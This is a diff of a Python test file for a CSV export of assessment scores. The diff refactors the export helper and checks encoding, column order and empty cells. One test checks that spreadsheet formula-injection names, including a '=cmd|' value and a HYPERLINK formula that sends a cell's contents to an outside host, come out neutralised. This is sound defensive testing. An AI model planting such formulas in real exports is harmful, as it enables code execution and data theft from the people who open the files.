@@ -6,12 +6,17 @@ import io
 import pytest
 
 from tests.publishing.conftest import Assessed
-from toolkit.publishing.table import neutralised, round_csv
+from toolkit.publishing.round_table import round_csv
+from toolkit.publishing.table import neutralised
 
 CODES = ["C1", "C2", "C3", "C4", "C5", "C6", "C7"]
 HEAD = ["unit", "name_zh", "name_en", "class", "status", "demo"]
 COLUMNS = [*HEAD, *(f"{code}_{side}" for code in CODES for side in ("claimed", "verified"))]
 COLUMNS += ["claimed_total", "total", "rank", "grade"]
+
+
+def csv_of(assessed: Assessed) -> bytes:
+    return b"".join(round_csv(assessed[0]))
 
 
 def rows(raw: bytes) -> list[dict[str, str]]:
@@ -21,7 +26,7 @@ def rows(raw: bytes) -> list[dict[str, str]]:
 def test_the_file_begins_with_a_mark_and_ends_its_lines_as_windows_does(
     demo_round: Assessed,
 ) -> None:
-    raw = round_csv(demo_round[0])
+    raw = csv_of(demo_round)
     assert raw.startswith(b"\xef\xbb\xbfunit,name_zh,name_en,")
     assert raw.count(b"\xef\xbb\xbf") == 1
     assert raw.endswith(b"\r\n")
@@ -29,7 +34,7 @@ def test_the_file_begins_with_a_mark_and_ends_its_lines_as_windows_does(
 
 
 def test_a_row_for_each_unit_in_the_order_of_the_register(demo_round: Assessed) -> None:
-    reader = csv.DictReader(io.StringIO(round_csv(demo_round[0]).decode("utf-8-sig"), newline=""))
+    reader = csv.DictReader(io.StringIO(csv_of(demo_round).decode("utf-8-sig"), newline=""))
     assert reader.fieldnames == COLUMNS
     assert [row["unit"].removeprefix("keqiao-demo-") for row in reader] == [
         *["loom", "dyeing", "garden"],
@@ -38,7 +43,7 @@ def test_a_row_for_each_unit_in_the_order_of_the_register(demo_round: Assessed) 
 
 
 def test_the_numbers_of_a_row(demo_round: Assessed) -> None:
-    loom = rows(round_csv(demo_round[0]))[0]
+    loom = rows(csv_of(demo_round))[0]
     assert loom == {
         **{"unit": "keqiao-demo-loom", "demo": "true", "class": "1类", "status": "已核定"},
         **{"name_zh": "示例·智能织机学会", "name_en": "Demo Society for Smart Looms"},
@@ -54,7 +59,7 @@ def test_the_numbers_of_a_row(demo_round: Assessed) -> None:
 
 
 def test_a_score_that_does_not_exist_is_an_empty_cell(demo_round: Assessed) -> None:
-    by_unit = {row["unit"]: row for row in rows(round_csv(demo_round[0]))}
+    by_unit = {row["unit"]: row for row in rows(csv_of(demo_round))}
     garden = by_unit["keqiao-demo-garden"]
     assert {garden[f"{code}_verified"] for code in CODES} | {garden["total"]} == {""}
     assert garden["C1_claimed"] == "15.00"
@@ -68,7 +73,7 @@ def test_a_score_that_does_not_exist_is_an_empty_cell(demo_round: Assessed) -> N
 def test_dangerous_names_are_neutralised_and_nothing_else_changes(
     hostile_round: Assessed, demo_round: Assessed
 ) -> None:
-    hostile, tame = rows(round_csv(hostile_round[0])), rows(round_csv(demo_round[0]))
+    hostile, tame = rows(csv_of(hostile_round)), rows(csv_of(demo_round))
     food = hostile[4]
     assert food["name_zh"] == '\'＝cmd|甲, "乙"'
     assert food["name_en"] == '\'=HYPERLINK("http://x.org?"&A1,"go, on")'
